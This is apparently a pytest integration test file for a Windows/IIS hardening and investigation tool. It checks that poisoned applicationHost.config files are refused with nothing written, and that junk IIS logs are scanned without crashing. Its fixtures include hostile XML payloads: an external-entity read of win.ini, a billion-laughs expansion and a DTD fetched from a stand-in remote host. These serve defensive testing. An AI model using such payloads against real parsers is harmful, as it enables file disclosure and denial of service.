"""Hostile and broken files on the host, end to end: a poisoned applicationHost.config is refused
with a clear error and nothing written; junk IIS logs are scanned without a crash and the real
attacks are still found. (Parser-level cases: tests/unit/test_xmlpatch.py, test_iis_logs.py;
memory: tests/integration/test_logscan_memory.py.)"""

import pytest

HOST = "lrm-miseq-01"
APPHOST = "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"
LOGS = "C:\\inetpub\\logs\\LogFiles\\W3SVC2"

POISONED = {
    "external entity": b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///C:/Windows/win.ini">]>'
                       b"<configuration>&x;</configuration>",
    "billion laughs": b'<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                      b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><configuration>&c;</configuration>',
    "dtd": b'<!DOCTYPE configuration SYSTEM "http://203.0.113.66/x.dtd"><configuration/>',
    "invalid encoding": b'<?xml version="1.0" encoding="UTF-8"?><configuration>\xff\xfe\x00</configuration>',
    "truncated": b'<?xml version="1.0"?>\r\n<configuration>\r\n  <system.applicationHost>\r\n    <sites>\r\n',
}


@pytest.mark.parametrize("kind", POISONED)
def test_poisoned_iis_config_is_refused_and_nothing_is_written(lab, kind):
    lab.sim(HOST).windows_path(APPHOST).write_bytes(POISONED[kind])
    before = lab.fingerprint(HOST, include_calls=False)
    result = lab.playbook("site.yml")
    assert result.returncode != 0
    lrm = {cid: c for cid, c in lab.controls(HOST).items() if cid.startswith("LRM-")}
    errors = " ".join(lab.latest_report()["hosts"][HOST]["errors"]) + " ".join(c["message"] for c in lrm.values())
    assert "applicationHost.config" in errors and "nothing was changed" in errors, errors
    after = lab.fingerprint(HOST, include_calls=False)
    assert {k: v for k, v in after.items() if "applicationHost" in k or "backup" in k.lower()} == {
        k: v for k, v in before.items() if "applicationHost" in k or "backup" in k.lower()}
    assert [c["phase"] for c in lab.calls(HOST, "lrm_patch")] == ["gather"]


def test_junk_iis_logs_are_survived_and_the_attacks_still_found(lab):
    logs = lab.sim(HOST).windows_path(LOGS)
    (logs / "u_ex261118.log").write_bytes(b"\x00\xff\xfe binary \x80\x81 junk\r\n" * 2000)
    (logs / "u_ex261119.log").write_bytes(b"2026-11-19 00:00:01 no #Fields header POST /x.asp\r\n" * 100)
    (logs / "u_ex261121.log").write_bytes(b"#Fields: date time c-ip cs-method cs-uri-stem\r\n"
                                          + b"A" * (10 * 1024 * 1024) + b"\r\n#Fields:\r\n\r\n")
    result = lab.playbook("investigate.yml")
    assert result.returncode == 0, result.stdout[-3000:]
    iis = [f for f in lab.latest_report()["hosts"][HOST]["findings"] if f["kind"] == "iis_log"]
    assert len(iis) == 7 and {f["file"].rsplit("\\", 1)[-1] for f in iis} == {"u_ex261120.log"}
